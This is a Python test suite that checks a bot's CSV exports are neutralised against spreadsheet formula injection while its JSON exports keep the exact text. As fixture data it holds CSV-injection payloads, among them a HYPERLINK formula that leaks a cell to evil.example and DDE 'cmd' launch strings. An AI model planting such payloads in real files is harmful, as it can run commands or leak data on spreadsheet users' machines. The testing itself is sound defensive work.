"""Exports a spreadsheet cannot execute: every CSV the CLI writes, on both databases.

OWASP "CSV Injection" (https://owasp.org/www-community/attacks/CSV_Injection):
"ensure that no cells begin with any of the following characters: = + - @
Tab (0x09) Carriage return (0x0D)"; prefixing such a cell with a single quote
makes a spreadsheet read it as text. JSON exports keep the exact text.

Chosen for numbers (``bot.reports.csv_safe``): in a column of figures the bot computes
(ids, amounts, counts, ratios) an exact decimal number such as ``-1500.00``
stays a number, so a reader's sums still add up; a bare number is no formula.
Free text that merely looks like one (a note saying ``-1500.00``) is prefixed.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from bot.cli import main
from bot.contacts import ContactDraft, log_contact
from bot.imports import import_csv
from bot.parsing import ClaimDraft
from bot.reports.csv_safe import TRIGGERS, SafeWriter, cell, neutralise, restore
from bot.reports.exports import export
from storage.models import Claim
from tests.databases import TemplateDatabases, engine_for
from tests.factories import make_client, make_initiative, make_rep

NOW = datetime(2026, 11, 18, 15, 0, tzinfo=UTC)
# What a rep might type, or a hostile one would: each begins with a formula trigger.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1 after a tab",
    "\r=1+1 after a carriage return",
    "-1500.00",  # looks like a number, but it is a note: text, so prefixed
]


@pytest.fixture
def cli(cli_on_engine: Engine, capsys: pytest.CaptureFixture[str]):  # type: ignore[no-untyped-def]
    """A book full of formulas in a real database, and the real ``cmsbot`` to export it."""
    with Session(cli_on_engine) as session, session.begin():
        formula_book(session)

    def run(*argv: str) -> str:
        code = main(["--log-level", "WARNING", *argv])
        out = capsys.readouterr()
        assert code == 0, out.err
        return out.out

    yield run
    with Session(cli_on_engine) as session:
        assert session.scalars(select(Claim.amount).order_by(Claim.id)).all()  # data was there


def formula_book(session: Session) -> None:
    rep = make_rep(session, "UEVIL", '=HYPERLINK("http://evil.example","Ann")')
    controller = make_rep(session, "UCTRL", "@Cora", roles=("controller",))
    client = make_client(session, "-Minus Holdings", covered_by=[rep], external_id="+C001")
    make_initiative(session, "golf-2026", name="\t=1+1 Golf Day", cost=Decimal("-250.00"))
    for position, text in enumerate(FORMULAS):
        log_contact(
            session,
            actor=rep,
            now=NOW,
            draft=ContactDraft(
                client_id=client.id,
                occurred_at=datetime(2026, 11, 2 + position, 10, 0, tzinfo=UTC),
                channel="phone",
                notes=text,
                outcome=text,
                initiative_tag="golf-2026",
                follow_up_on=date(2026, 12, 1),
                claims=(
                    ClaimDraft(
                        kind="deposit", amount=Decimal("2500000.00"), currency="USD", account=text
                    ),
                )
                if position == 0
                else (),
            ),
        )
    claim = session.scalars(select(Claim)).one()
    # A reversal booked as a negative amount: a figure, so it stays a number in CSV.
    claim.amount = Decimal("-1500.00")
    claim.status, claim.decided_by_id, claim.decided_at = "verified", controller.id, NOW
    claim.decision_note = "\r=cmd|' /C notepad'!A0"
    session.flush()


def unsafe_cells(text: str) -> list[tuple[int, str, str]]:
    """Cells a spreadsheet would run: start with a trigger and are not a bare number."""
    rows = list(csv.reader(io.StringIO(text)))
    header, found = rows[0], []
    for line, row in enumerate(rows[1:], start=2):
        assert len(row) == len(header)
        for name, value in zip(header, row, strict=True):
            if value.startswith(TRIGGERS) and cell(value, numeric=True) != value:
                found.append((line, name, value))
    return found


def csv_records(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def as_text(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, list):
        return ";".join(str(v) for v in value)
    if isinstance(value, dict):
        return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return str(value)


# Each command, and whether the book puts a formula in it (the audit export's cells
# are ids, names of actions and JSON objects: none can begin with a trigger).
EXPORTS = [
    (("export", "interactions"), True),
    (("export", "claims"), True),
    (("export", "audit"), False),
    (("report", "scorecard", "--period", "2026 Q4", "--at", "2026-11-18T15:00:00Z"), True),
    (("report", "roi", "--period", "2026", "--at", "2026-11-18T15:00:00Z"), True),
]


@pytest.mark.parametrize(
    ("command", "has_formulas"), EXPORTS, ids=[" ".join(c[:2]) for c, _ in EXPORTS]
)
def test_csv_has_no_cell_a_spreadsheet_would_run_and_json_keeps_the_exact_text(
    cli, command: tuple[str, ...], has_formulas: bool
) -> None:  # type: ignore[no-untyped-def]
    as_csv = cli(*command, "--format", "csv")
    as_json = json.loads(cli(*command, "--format", "json"))

    assert unsafe_cells(as_csv) == []
    records = csv_records(as_csv)
    assert len(records) == len(as_json) > 0
    neutralised = 0
    for row, exact in zip(records, as_json, strict=True):
        for key, value in exact.items():
            assert restore(row[key]) == as_text(value), (key, row[key], value)
            neutralised += row[key] != as_text(value)
    assert (neutralised > 0) is has_formulas  # the book's formulas did reach this export


def test_interactions_csv_prefixes_every_trigger_and_keeps_json_exact(cli) -> None:  # type: ignore[no-untyped-def]
    rows = csv_records(cli("export", "interactions", "--format", "csv"))
    exact = json.loads(cli("export", "interactions", "--format", "json"))

    # Notes are stored stripped (the tab and carriage return cases arrive as "=…");
    # the outcome is stored as given.
    stored = [text.strip() for text in FORMULAS]
    assert [item["notes"] for item in exact] == stored
    assert [item["outcome"] for item in exact] == FORMULAS
    assert [row["notes"] for row in rows] == ["'" + text for text in stored]
    assert [row["outcome"] for row in rows] == ["'" + text for text in FORMULAS]
    assert {row["client_name"] for row in rows} == {"'-Minus Holdings"}
    assert {row["client_external_id"] for row in rows} == {"'+C001"}
    assert {item["client_name"] for item in exact} == {"-Minus Holdings"}


def test_a_negative_amount_stays_a_number_and_its_note_does_not(cli) -> None:  # type: ignore[no-untyped-def]
    [row] = csv_records(cli("export", "claims", "--format", "csv"))
    [exact] = json.loads(cli("export", "claims", "--format", "json"))

    assert row["amount"] == "-1500.00" and exact["amount"] == "-1500.00"
    assert row["decision_note"] == "'\r=cmd|' /C notepad'!A0"  # a lone CR, quoted: one row
    assert row["account"] == "'" + FORMULAS[0]
    assert exact["decision_note"] == "\r=cmd|' /C notepad'!A0"


def test_report_csv_neutralises_names_but_not_figures(cli) -> None:  # type: ignore[no-untyped-def]
    at = ("--at", "2026-11-18T15:00:00Z")
    scorecard = csv_records(
        cli("report", "scorecard", "--period", "2026 Q4", *at, "--format", "csv")
    )
    roi = csv_records(cli("report", "roi", "--period", "2026", *at, "--format", "csv"))

    evil = next(row for row in scorecard if row["rep_slack_user_id"] == "UEVIL")
    assert evil["rep_name"] == "'" + '=HYPERLINK("http://evil.example","Ann")'
    assert evil["contacts"] == str(len(FORMULAS))
    [golf] = roi
    assert golf["name"] == "'\t=1+1 Golf Day"
    assert golf["cost"] == "-250.00"  # an initiative's cost is a figure: a number, as is


# -- the rule itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "numeric", "written"),
    [
        ("=1+1", False, "'=1+1"),
        ("+1", False, "'+1"),
        ("-1", False, "'-1"),
        ("@x", False, "'@x"),
        ("\tx", False, "'\tx"),
        ("\rx", False, "'\rx"),
        ("\x00x", False, "'\x00x"),
        ("plain", False, "plain"),
        ("a=b", False, "a=b"),
        ("'=quoted", False, "''=quoted"),
        ("'plain", False, "'plain"),
        ("", False, ""),
        (None, False, ""),
        ("-1500.00", True, "-1500.00"),
        ("-7", True, "-7"),
        ("2500000.00", True, "2500000.00"),
        (Decimal("-0.50"), True, "-0.50"),
        (-3, True, "-3"),
        ("-1500.00+A1", True, "'-1500.00+A1"),
        ("-1e3", True, "'-1e3"),
        ("-.5", True, "'-.5"),
        ("=1", True, "'=1"),
    ],
)
def test_cell_rule(value: object, numeric: bool, written: str) -> None:
    assert cell(value, numeric=numeric) == written


@pytest.mark.parametrize("text", ["=1+1", "-5", "@a", "\tx", "\rx", "plain", "'plain", "'=x", ""])
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text


def test_safe_writer_refuses_a_numeric_column_it_does_not_write() -> None:
    with pytest.raises(ValueError, match="amout"):
        SafeWriter(io.StringIO(), ["id", "amount"], numeric={"amout"})


def test_an_exported_csv_imports_back_with_the_exact_text(
    cli, databases: TemplateDatabases, backend: str, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    """The quotes the export adds are the importer's to take off: a round trip is exact."""
    path = tmp_path / "interactions.csv"
    path.write_text(cli("export", "interactions", "--format", "csv"), encoding="utf-8")
    original = json.loads(cli("export", "interactions", "--format", "json"))

    with engine_for(databases.url(backend)) as engine, Session(engine) as fresh, fresh.begin():
        rep = make_rep(fresh, "UEVIL", "Ann")
        make_client(fresh, "-Minus Holdings", covered_by=[rep], external_id="+C001")
        make_initiative(fresh, "golf-2026")
        assert import_csv(fresh, kind="interactions", path=path, now=NOW).created == len(FORMULAS)
        out = io.StringIO()
        export(fresh, kind="interactions", fmt="json", out=out)
        copied = json.loads(out.getvalue())

    def texts(rows: list[dict[str, Any]]) -> list[tuple[object, ...]]:
        return [(r["occurred_at"], r["notes"], r["outcome"], r["client_external_id"]) for r in rows]

    assert texts(copied) == texts(original)
